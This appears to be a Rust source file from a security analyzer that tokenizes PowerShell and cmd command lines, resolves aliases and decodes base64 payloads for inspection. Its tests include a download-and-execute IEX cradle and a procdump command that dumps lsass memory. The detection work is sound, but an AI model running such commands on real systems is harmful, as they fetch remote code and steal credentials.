//! PowerShell and cmd command lines, which need not parse as POSIX shell: a small tokenizer
//! (quotes, backtick escapes, here-strings, groups), one part per pipeline element, and the
//! payloads PowerShell decodes or evaluates (`-EncodedCommand`, `FromBase64String`, `iex`).

use super::analyze::{Analyzer, Ctx};
use super::command::program_name;
use super::decode::base64_utf16le;
use super::part::{Fact, Lang, Part, PartKind};
use super::wrappers::{peel, Peel};

/// Groups (`(…)`, `{…}`, `$(…)`) nested deeper than this are not followed.
const MAX_GROUP_DEPTH: usize = 32;

/// One token of a PowerShell statement.
#[derive(Debug, Clone, PartialEq)]
enum Tok {
    /// A bare word or a quoted string, unquoted.
    Word {
        value: String,
        quoted: bool,
    },
    /// A group's inner text.
    Group(String),
    Pipe,
    /// `;`, newline, `&&`, `||`.
    End,
}

/// The text from `open` (just after an opening bracket) to its matching `close`.
fn group_end(chars: &[char], open: usize, close: char) -> usize {
    let opening = if close == ')' { '(' } else { '{' };
    let mut depth = 1;
    let mut i = open;
    let mut quote: Option<char> = None;
    while i < chars.len() {
        let c = chars[i];
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) if c == '`' => i += 1,
            Some(_) => {}
            None if c == '\'' || c == '"' => quote = Some(c),
            None if c == '`' => i += 1,
            None if c == opening => depth += 1,
            None if c == close => {
                depth -= 1;
                if depth == 0 {
                    return i;
                }
            }
            None => {}
        }
        i += 1;
    }
    chars.len()
}

fn tokenize(text: &str) -> Vec<Tok> {
    let chars: Vec<char> = text.chars().collect();
    let mut toks = Vec::new();
    let mut i = 0;
    let mut word = String::new();
    let mut quoted = false;
    let flush = |word: &mut String, quoted: &mut bool, toks: &mut Vec<Tok>| {
        if !word.is_empty() || *quoted {
            toks.push(Tok::Word {
                value: std::mem::take(word),
                quoted: *quoted,
            });
        }
        *quoted = false;
    };
    while i < chars.len() && toks.len() < 8192 {
        let c = chars[i];
        let next = chars.get(i + 1).copied();
        match c {
            '`' => {
                if let Some(n) = next {
                    if n != '\n' {
                        word.push(n);
                    }
                }
                i += 2;
                continue;
            }
            '\'' | '"' => {
                // Here-strings `@'…'@` arrive as `@` then a quote: drop the `@`.
                if word == "@" {
                    word.clear();
                }
                quoted = true;
                i += 1;
                while i < chars.len() {
                    let d = chars[i];
                    if d == c {
                        if chars.get(i + 1) == Some(&c) {
                            word.push(c);
                            i += 2;
                            continue;
                        }
                        break;
                    }
                    if d == '`' && c == '"' {
                        if let Some(n) = chars.get(i + 1) {
                            word.push(*n);
                        }
                        i += 2;
                        continue;
                    }
                    word.push(d);
                    i += 1;
                }
                i += 1;
                if chars.get(i) == Some(&'@') {
                    i += 1;
                }
                continue;
            }
            '#' if word.is_empty() => {
                while i < chars.len() && chars[i] != '\n' {
                    i += 1;
                }
                continue;
            }
            '<' if next == Some('#') => {
                while i + 1 < chars.len() && !(chars[i] == '#' && chars[i + 1] == '>') {
                    i += 1;
                }
                i += 2;
                continue;
            }
            '(' | '{' => {
                let close = if c == '(' { ')' } else { '}' };
                // `$(`, `@(`, `@{` belong to the group, not to the word.
                if word == "$" || word == "@" {
                    word.clear();
                }
                flush(&mut word, &mut quoted, &mut toks);
                let end = group_end(&chars, i + 1, close);
                toks.push(Tok::Group(
                    chars[i + 1..end.min(chars.len())].iter().collect(),
                ));
                i = end + 1;
                continue;
            }
            ')' | '}' => {}
            '|' => {
                flush(&mut word, &mut quoted, &mut toks);
                toks.push(if next == Some('|') {
                    Tok::End
                } else {
                    Tok::Pipe
                });
                i += if next == Some('|') { 2 } else { 1 };
                continue;
            }
            ';' | '\n' => {
                flush(&mut word, &mut quoted, &mut toks);
                toks.push(Tok::End);
            }
            '&' if next == Some('&') => {
                flush(&mut word, &mut quoted, &mut toks);
                toks.push(Tok::End);
                i += 2;
                continue;
            }
            c if c.is_whitespace() => flush(&mut word, &mut quoted, &mut toks),
            c => word.push(c),
        }
        i += 1;
    }
    flush(&mut word, &mut quoted, &mut toks);
    toks
}

/// PowerShell aliases, resolved to the cmdlet they name.
fn cmdlet(name: &str) -> &str {
    match name {
        "iex" => "invoke-expression",
        "iwr" => "invoke-webrequest",
        "irm" => "invoke-restmethod",
        "saps" | "start" => "start-process",
        "icm" => "invoke-command",
        "gc" | "type" => "get-content",
        "ri" | "rm" | "del" | "erase" | "rd" | "rmdir" => "remove-item",
        "ni" => "new-item",
        "kill" | "spps" => "stop-process",
        "gwmi" => "get-wmiobject",
        "iwmi" => "invoke-wmimethod",
        "%" | "foreach" => "foreach-object",
        "?" | "where" => "where-object",
        "echo" | "write" => "write-output",
        "cp" | "copy" | "cpi" => "copy-item",
        "mv" | "move" | "mi" => "move-item",
        "ls" | "dir" | "gci" => "get-childitem",
        "gps" | "ps" => "get-process",
        "sal" => "set-alias",
        other => other,
    }
}

impl Analyzer<'_> {
    /// Walks a PowerShell / cmd text.
    pub(crate) fn powershell(&mut self, text: &str, ctx: &Ctx) {
        self.ps_block(text, ctx, 0);
        let extract = self.extract;
        let mut nested: Vec<(String, Option<Fact>)> = Vec::new();
        for c in extract.ps_base64.captures_iter(text).take(16) {
            if let Some(t) = c.get(1).and_then(|m| base64_utf16le(m.as_str())) {
                nested.push((t, Some(Fact::Decoded)));
            }
        }
        for c in extract.ps_scriptblock.captures_iter(text).take(16) {
            if let Some(m) = c.get(1).or_else(|| c.get(2)) {
                nested.push((m.as_str().to_string(), None));
            }
        }
        for (t, fact) in nested {
            self.text(&t, Lang::PowerShell, &ctx.nested(fact, Vec::new()));
        }
    }

    fn ps_block(&mut self, text: &str, ctx: &Ctx, depth: usize) {
        if depth > MAX_GROUP_DEPTH {
            self.current.add(Fact::TooDeep);
            return;
        }
        let toks = tokenize(text);
        for statement in toks.split(|t| *t == Tok::End) {
            let stages: Vec<&[Tok]> = statement
                .split(|t| *t == Tok::Pipe)
                .filter(|s| !s.is_empty())
                .collect();
            if stages.is_empty() {
                continue;
            }
            let raw = statement_text(statement);
            let programs: Vec<String> = stages.iter().map(|s| stage_program(s)).collect();
            for (i, stage) in stages.iter().enumerate() {
                for t in stage.iter() {
                    if let Tok::Group(inner) = t {
                        self.ps_block(inner, ctx, depth + 1);
                    }
                }
                self.ps_stage(stage, &raw, &programs, i, ctx);
            }
        }
    }

    fn ps_stage(&mut self, stage: &[Tok], raw: &str, programs: &[String], index: usize, ctx: &Ctx) {
        let words: Vec<(String, bool)> = stage
            .iter()
            .skip_while(
                |t| matches!(t, Tok::Word { value, quoted: false } if value == "&" || value == "."),
            )
            .map(|t| match t {
                Tok::Word { value, quoted } => (value.clone(), *quoted),
                Tok::Group(g) => (format!("({g})"), false),
                _ => (String::new(), false),
            })
            .collect();
        let program = programs.get(index).cloned().unwrap_or_default();
        let argv: Vec<String> = words.iter().map(|(v, _)| v.clone()).collect();
        let args: Vec<String> = argv
            .iter()
            .skip(1)
            .map(|a| a.to_ascii_lowercase())
            .collect();
        let joined = args.join(" ");
        let mut facts = ctx.facts;
        if self.current.has(Fact::ExternalUrl) {
            super::scan::url_facts(raw, &mut facts);
        }
        if words.first().is_some_and(|(v, q)| *q || v.starts_with('$')) {
            facts.add(Fact::DynamicProgram);
        }
        self.push(Part {
            kind: PartKind::Command,
            also_powershell: false,
            lang: Lang::PowerShell,
            windows: true,
            program: program.clone(),
            args,
            joined,
            redirects: Vec::new(),
            piped_to: programs[index + 1..]
                .iter()
                .cloned()
                .chain(ctx.sink.iter().cloned())
                .collect(),
            piped_from: programs[..index].to_vec(),
            text: raw.to_string(),
            facts,
        });
        // Strings handed to `iex` are PowerShell code.
        if program == "invoke-expression" {
            for (v, quoted) in words.iter().skip(1) {
                if *quoted {
                    self.text(v, Lang::PowerShell, &ctx.nested(None, Vec::new()));
                }
            }
        }
        let mut peel_argv = argv.clone();
        if let Some(first) = peel_argv.first_mut() {
            *first = program.clone();
        }
        match peel(&program, &peel_argv) {
            Peel::Nested(texts) => {
                for (t, lang, fact) in texts {
                    self.text(&t, lang, &ctx.nested(fact, Vec::new()));
                }
            }
            Peel::Inner(i) if program != "start-process" => {
                let inner = peel_argv.get(i..).unwrap_or(&[]).join(" ");
                self.text(&inner, Lang::PowerShell, &ctx.nested(None, Vec::new()));
            }
            _ => {}
        }
    }
}

/// A stage's program: the first word, lowercased, path and `.exe` removed, alias resolved.
fn stage_program(stage: &[Tok]) -> String {
    let first = stage
        .iter()
        .find(|t| !matches!(t, Tok::Word { value, quoted: false } if value == "&" || value == "."));
    match first {
        Some(Tok::Word { value, .. }) => {
            let (name, _) = program_name(value);
            cmdlet(&name.to_ascii_lowercase()).to_string()
        }
        _ => String::new(),
    }
}

/// A statement written back as text (groups in brackets), for display and text rules.
fn statement_text(statement: &[Tok]) -> String {
    let mut out = String::new();
    for t in statement {
        if !out.is_empty() {
            out.push(' ');
        }
        match t {
            Tok::Word {
                value,
                quoted: true,
            } => {
                out.push('\'');
                out.push_str(value);
                out.push('\'');
            }
            Tok::Word { value, .. } => out.push_str(value),
            Tok::Group(g) => {
                out.push('(');
                out.push_str(g);
                out.push(')');
            }
            Tok::Pipe => out.push('|'),
            Tok::End => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tokens_groups_and_quotes() {
        let t = tokenize("IEX (New-Object Net.WebClient).DownloadString('http://x/a'); ls | iex");
        assert_eq!(
            t[0],
            Tok::Word {
                value: "IEX".into(),
                quoted: false
            }
        );
        assert_eq!(t[1], Tok::Group("New-Object Net.WebClient".into()));
        assert!(t.contains(&Tok::End));
        assert!(t.contains(&Tok::Pipe));
        let t = tokenize("Write-Host \"a `\"b`\"\" 'it''s'");
        assert_eq!(
            t[1],
            Tok::Word {
                value: "a \"b\"".into(),
                quoted: true
            }
        );
        assert_eq!(
            t[2],
            Tok::Word {
                value: "it's".into(),
                quoted: true
            }
        );
    }

    #[test]
    fn aliases_resolve() {
        assert_eq!(cmdlet("iex"), "invoke-expression");
        assert_eq!(
            stage_program(&tokenize("& 'C:\\Tools\\procdump.exe' -ma lsass")),
            "procdump"
        );
    }
}
